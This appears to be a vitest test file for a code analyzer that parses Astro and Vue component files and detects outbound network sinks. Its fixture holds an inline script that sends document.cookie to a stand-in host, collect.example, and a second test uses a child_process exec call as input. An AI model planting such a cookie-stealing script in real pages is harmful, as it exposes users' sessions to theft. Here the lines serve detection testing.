import { expect, test } from 'vitest';
import { parseComponent } from '../../../src/analyze/javascript/parsing/component-file.js';
import { follow } from './sample.js';

const PAGE = `---
import { site } from './site';
const name: string = Astro.props.name;
---
<h1>{name}</h1>
<slot />
<script>
  fetch('https://collect.example/' + document.cookie);
</script>
`;

test('scripts of a component are read where they stand, its markup is not', () => {
  const parsed = parseComponent(PAGE, 'page.astro');
  expect(parsed !== null && 'program' in parsed && parsed.errors).toBe(0);
  const { observations, facts } = follow({ 'index.js': "import './page.astro';", 'page.astro': PAGE });
  expect(facts.map(({ id }) => id)).not.toContain('parse-failure');
  expect(observations.find(({ sink }) => sink === 'net.out')).toMatchObject({ file: 'page.astro', line: 8 });
});

test('what does not begin as markup is code whatever its file is called', () => {
  expect(parseComponent("require('child_process').exec('id')", 'page.vue')).toBeNull();
  expect(parseComponent('---\nconst a = 1;\n---\n', 'page.js')).toBeNull();
});
